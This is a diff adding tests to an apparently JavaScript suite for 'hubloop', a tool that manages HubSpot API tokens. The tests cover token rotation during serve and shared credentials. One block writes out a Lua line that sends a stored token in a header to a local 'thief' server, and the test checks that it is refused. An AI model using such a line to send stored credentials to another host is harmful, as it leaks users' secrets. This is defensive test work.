@@ -104,6 +104,34 @@ test('rotate: the new token is tried first, and the old one goes when the new on
   assert.match(late.err, /refused the token of account "shop" \(401.*hubloop auth rotate shop/);
 });
 
+test('a token rotated while serve runs is taken up, and two names for one credential share it', async (t) => {
+  let good = TOKEN;
+  let calls = 0;
+  const hubspot = await fake(t, (r, res) => {
+    calls++;
+    const ok = r.headers.authorization === `Bearer ${good}`;
+    res.writeHead(ok ? 200 : 401, { 'Content-Type': 'application/json' });
+    res.end(ok ? '{"portalId":7,"active":true,"hub_id":7,"scopes":["oauth"]}' : '{"category":"INVALID_AUTHENTICATION","message":"no"}');
+  });
+  const dir = project(t, {
+    'hubloop.lua': 'return { accounts = { one = { token = secret "shop" }, two = { token = secret "shop" } } }\n',
+    'a.lua': 'local hubspot = require "hubspot"\nserve("POST /ask", { auth = false }, function(q)\n'
+      + '  return { status = 200, json = hubspot.account(q.query.name).request{ method = "GET", path = "/account-info/{version}/details" } }\nend)\n',
+  });
+  assert.equal((await auth(t, dir, ['add', 'shop'], { input: `${TOKEN}\n`, env: { HUBSPOT_BASE_URL: hubspot.url } })).code, 0);
+  const p = await serve(t, dir, { env: { HUBSPOT_BASE_URL: '', HUBSPOT_TOKEN: '' }, secret: null });
+  const ask = (name) => request('POST', `${p.url}/ask?name=${name}`);
+  assert.equal((await ask('one')).status, 200);
+  const next = token();
+  good = next;
+  assert.equal((await auth(t, dir, ['rotate', 'shop', '--env', 'NEW'], { env: { NEW: next } })).code, 0);
+  calls = 0;
+  assert.equal((await ask('one')).status, 200); // 401, the store, the new token
+  assert.equal((await ask('two')).status, 200); // the same queue: it has it already
+  assert.equal(calls, 3);
+  await p.stop();
+});
+
 test('what add refuses', async (t) => {
   const s = await sim(t, project(t), ['--portal', '1234']);
   const dir = project(t);
@@ -365,6 +393,15 @@ test('a stored token that settings name as a secret keeps its address', async (t
   const ran = await run(t, ['run', dir], { cwd: dir });
   assert.equal(ran.code, 0, ran.err);
   assert.equal(ran.out, 'portal 62515\n');
+  // Neither settings nor a script can send it elsewhere.
+  const thief = await fake(t, (r, res) => res.end('{}'));
+  fs.writeFileSync(path.join(dir, 'hubloop.lua'), `return { accounts = { main = { token = secret "shop", base_url = "${thief.url}" } } }\n`);
+  refused(await run(t, ['run', dir], { cwd: dir }), 2, /account “main”: the stored credential “shop” goes to http.*leave base_url out/);
+  fs.writeFileSync(path.join(dir, 'who.lua'), `http.get("${thief.url}", { headers = { ["X-Key"] = secret "shop" } })\n`);
+  const script = await run(t, ['run', 'who.lua', '--allow-host', `127.0.0.1:${thief.port}`], { cwd: dir });
+  assert.equal(script.code, 1);
+  assert.match(script.err, /“shop” is the stored credential of an account/);
+  assert.equal(thief.requests.length, 0);
 });
 
 test('many processes share one renewal', async (t) => {
@@ -424,6 +461,7 @@ test('two accounts: events, calls and tokens stay apart', async (t) => {
   // The other portal's secret does not open this one's door.
   await deliver(p.hook, [event({ portalId: 222 })], { secret: secrets[0] });
   await p.settled((v) => v.webhook.foreign_portal + v.webhook.forged > 0 && v.engine.ran === 2, 'two handled, one refused');
+  await p.stop();
   assert.ok(!p.err.includes(TOKEN) && !p.err.includes(other));
 });
 
